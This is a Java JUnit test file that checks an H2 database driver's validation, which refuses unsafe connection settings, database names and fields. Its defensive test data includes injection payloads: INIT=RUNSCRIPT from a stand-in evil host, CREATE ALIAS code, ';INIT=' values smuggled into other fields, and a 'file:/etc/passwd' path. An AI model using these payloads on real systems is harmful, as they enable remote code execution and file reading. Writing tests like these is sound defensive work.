package io.sightline.driver.h2.internal;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

import io.sightline.api.driver.ConnectionSpec;
import io.sightline.api.driver.InvalidConnectionOptionException;
import io.sightline.api.driver.TlsSettings;
import io.sightline.api.driver.TlsSettings.Mode;

/** What an H2 data source may say (DS-7), without a server. */
class H2ValidationTest {
    private final H2Driver driver = new H2Driver();

    private static ConnectionSpec spec(String host, int port, String database, String user, Map<String, String> options,
            TlsSettings tls) {
        return new ConnectionSpec(host, port, database, user, options, tls, Duration.ofSeconds(7));
    }

    private static ConnectionSpec database(String database) {
        return spec("db.example.com", 9092, database, "ann", Map.of(), null);
    }

    private static ConnectionSpec withOptions(Map<String, String> options) {
        return spec("db.example.com", 9092, "sales", "ann", options, null);
    }

    private InvalidConnectionOptionException refused(ConnectionSpec spec) {
        return assertThrows(InvalidConnectionOptionException.class, () -> driver.validate(spec, false));
    }

    @Test
    void identity() {
        assertEquals("h2", driver.id());
        assertEquals("H2", driver.displayName());
        assertEquals(9092, driver.defaultPort());
        assertEquals(List.of("MODE", "SCHEMA", "LOCK_TIMEOUT"), List.copyOf(driver.allowedOptions().keySet()));
        driver.allowedOptions().values().forEach(d -> assertFalse(d.isBlank()));
    }

    @Test
    void theUrlIsBuiltFromCheckedPartsOnly() {
        ConnectionSpec spec = spec("db.example.com", 9092, "team/sales", "ann",
                Map.of("schema", "SALES", "MODE", "postgresql", "LOCK_TIMEOUT", "100"), null);
        driver.validate(spec, false);
        assertEquals("jdbc:h2:tcp://db.example.com:9092/team/sales;IFEXISTS=TRUE;NETWORK_TIMEOUT=7000"
                + ";LOCK_TIMEOUT=100;MODE=PostgreSQL;SCHEMA=SALES", H2DataSource.url(spec, null));
        ConnectionSpec ipv6 = spec("::1", 9092, "sales", "ann", Map.of(), null);
        driver.validate(ipv6, false);
        assertEquals("jdbc:h2:tcp://[::1]:9092/sales;IFEXISTS=TRUE;NETWORK_TIMEOUT=7000", H2DataSource.url(ipv6, null));
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
        "INIT|RUNSCRIPT FROM 'http://evil.example/x.sql'|Runs SQL",
        "init|CREATE ALIAS X AS 'void x() {}'|Runs SQL",
        "RUNSCRIPT|FROM 'http://x'|Runs SQL",
        "TRACE_LEVEL_FILE|3|trace files",
        "TRACE_LEVEL_SYSTEM_OUT|3|trace files",
        "IFEXISTS|FALSE|never creates",
        "IFEXISTS|TRUE|never creates",
        "FORBID_CREATION|FALSE|never creates",
        "DATABASE_EVENT_LISTENER|com.example.Listener|Java class",
        "AUTHENTICATOR|com.example.Auth|Java class",
        "JAVA_OBJECT_SERIALIZER|com.example.S|Java class",
        "ACCESS_MODE_DATA|r|whole database",
        "ACCESS_MODE_DATA|rws|whole database",
        "PASSWORD|x|password fields",
        "CIPHER|AES|Encrypted",
        "AUTO_SERVER|TRUE|every user",
        "FILE_LOCK|NO|every user",
        "NETWORK_TIMEOUT|0|connect timeout",
        "IGNORE_UNKNOWN_SETTINGS|TRUE|must not be ignored",
        "ALLOW_LITERALS|ALL|not an H2 setting",
    })
    void refusedSettingsAreNamed(String option, String value, String reason) {
        InvalidConnectionOptionException e = refused(withOptions(Map.of(option, value)));
        assertEquals(option, e.option());
        assertTrue(e.getMessage().contains(option), e.getMessage());
        assertTrue(e.getMessage().contains(reason), e.getMessage());
    }

    @Test
    void settingValuesAreChecked() {
        for (Map<String, String> bad : List.of(Map.of("MODE", "PostgreSQL;INIT=RUNSCRIPT FROM 'x'"),
                Map.of("MODE", "Sybase"), Map.of("SCHEMA", "S;INIT=x"), Map.of("SCHEMA", "\"S\""),
                Map.of("SCHEMA", "1ABC"), Map.of("LOCK_TIMEOUT", "-1"), Map.of("LOCK_TIMEOUT", "600001"),
                Map.of("LOCK_TIMEOUT", "10;INIT=x"), Map.of("LOCK_TIMEOUT", "1e3"))) {
            InvalidConnectionOptionException e = refused(withOptions(bad));
            assertEquals(bad.keySet().iterator().next(), e.option(), bad.toString());
        }
        assertEquals("MODE", refused(withOptions(Map.of("MODE", "MySQL", "mode", "Oracle"))).option().toUpperCase());
    }

    @ParameterizedTest
    @ValueSource(strings = {"sales;INIT=RUNSCRIPT FROM 'http://x'", "db;INIT=RUNSCRIPT FROM 'http://x'",
        "sales;TRACE_LEVEL_FILE=3", "sales;IFEXISTS=FALSE", "mem:sales", "file:/etc/passwd", "zip:/x.zip!/db",
        "../sales", "a/../sales", "./sales", "~/sales", "/abs/sales", "sales.db", "sa les", "sales/", "a//b",
        "C:\\h2\\sales", "", " ", "sales\n", "split:sales", "nio:sales", "async:sales"})
    void badDatabaseNamesAreRefused(String name) {
        InvalidConnectionOptionException e = refused(database(name));
        assertEquals("database", e.option(), name);
    }

    @Test
    void databaseNameMessagesSayWhy() {
        assertTrue(refused(database("db;INIT=RUNSCRIPT FROM 'http://x'")).getMessage().contains("';'"));
        assertTrue(refused(database("mem:sales")).getMessage().contains("mem:"));
        assertTrue(refused(database("a".repeat(256))).getMessage().contains("255"));
    }

    /** The shared field checks (ConnectionSpecChecksTest), with what H2's URL would read as more: ';', "tcp://". */
    @Test
    void fieldsAreChecked() {
        assertEquals("host", refused(spec("db;x", 9092, "sales", "ann", Map.of(), null)).option());
        assertEquals("host", refused(spec("tcp://db", 9092, "sales", "ann", Map.of(), null)).option());
        assertEquals("host", refused(spec("db.example.com:9092", 9092, "sales", "ann", Map.of(), null)).option());
        assertEquals("port", refused(spec("db", 65536, "sales", "ann", Map.of(), null)).option());
        assertEquals("user", refused(spec("db", 9092, "sales", " ", Map.of(), null)).option());
        assertEquals("user", refused(spec("db", 9092, "sales", "a\u0000b", Map.of(), null)).option());
        assertEquals("user", refused(spec("db", 9092, "sales", "a".repeat(129), Map.of(), null)).option());
        driver.validate(spec("[::1]", 1, "sales", "a".repeat(128), Map.of(), null), false);
    }

    @ParameterizedTest
    @EnumSource(value = Mode.class, names = {"REQUIRE", "VERIFY_CA", "VERIFY_FULL"})
    void tlsIsRefusedWithTheReason(Mode mode) {
        InvalidConnectionOptionException e = refused(spec("db", 9092, "sales", "ann", Map.of(),
                new TlsSettings(mode, null)));
        assertEquals("tls", e.option());
        assertTrue(e.getMessage().contains("SSH tunnel"), e.getMessage());
    }

    @Test
    void dataSourceChecksTheSpecToo() {
        assertThrows(InvalidConnectionOptionException.class,
                () -> driver.dataSource(withOptions(Map.of("INIT", "RUNSCRIPT FROM 'x'")), () -> null));
        assertThrows(InvalidConnectionOptionException.class,
                () -> driver.dataSource(database("db;INIT=RUNSCRIPT FROM 'x'"), () -> null));
    }

    @Test
    void quotingAndLimits() {
        assertEquals("\"a\"\"b\"", driver.quoteIdentifier("a\"b"));
        assertEquals("SELECT * FROM (\nSELECT 1\n) AS sightline_limited FETCH FIRST 2 ROWS ONLY",
                driver.limitRows("SELECT 1;", 2));
        assertThrows(IllegalArgumentException.class, () -> driver.limitRows("SELECT 1", -5));
    }

    @Test
    void aTlsClientCertificateIsRefusedOnTheClientKey() {
        ConnectionSpec spec = new ConnectionSpec("db.example.com", 9092, "sales", "ann", Map.of(),
                new TlsSettings(TlsSettings.Mode.REQUIRE, null, "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n"), null);
        InvalidConnectionOptionException e = assertThrows(InvalidConnectionOptionException.class,
                () -> driver.validate(spec, false));
        assertEquals("clientKey", e.option());
        assertEquals("H2 data sources cannot use a TLS client certificate: client certificates are supported "
                + "for PostgreSQL only for now.", e.getMessage());
        assertFalse(driver.supportsTlsClientCertificate());
    }
}
